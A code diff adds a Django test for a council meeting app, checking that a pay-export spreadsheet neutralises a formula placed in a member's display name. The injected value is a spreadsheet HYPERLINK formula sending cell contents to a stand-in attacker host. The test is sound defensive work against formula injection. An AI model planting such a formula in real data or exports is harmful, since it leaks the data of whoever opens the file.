@@ -1525,3 +1525,25 @@ def test_terms_of_reference_due_for_revision_before_adoption_are_refused_by_the_
     assert refused.value.message_dict == {
         "revision_due": ["The revision date must come after the adoption."]
     }
+
+
+def test_the_pay_export_carries_a_formula_in_a_name_inert(client, admin_user, council):
+    # Names come from members and self-registration: a formula must not run in the pay sheet.
+    meeting = MeetingFactory(council=council, starts_at=timezone.now() - timedelta(days=1))
+    anna = council.members.get(display_name="Anna Andersson")
+    anna.display_name = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+    anna.save(update_fields=["display_name"])
+    services.attendance_record(
+        meeting=meeting,
+        rows=[{"member": anna, "status": "present", "travel_cost": Decimal("120")}],
+    )
+    client.force_login(admin_user)
+
+    with translation.override("sv"):
+        response = client.post(
+            url(Meeting, "changelist"), {"action": "export_pay", "_selected_action": [meeting.pk]}
+        )
+
+    header, row = pay_lines(response)
+    assert row[2] == "'" + anna.display_name
+    assert row[4:] == ["500,00", "120,00", "0,00", "620,00"]
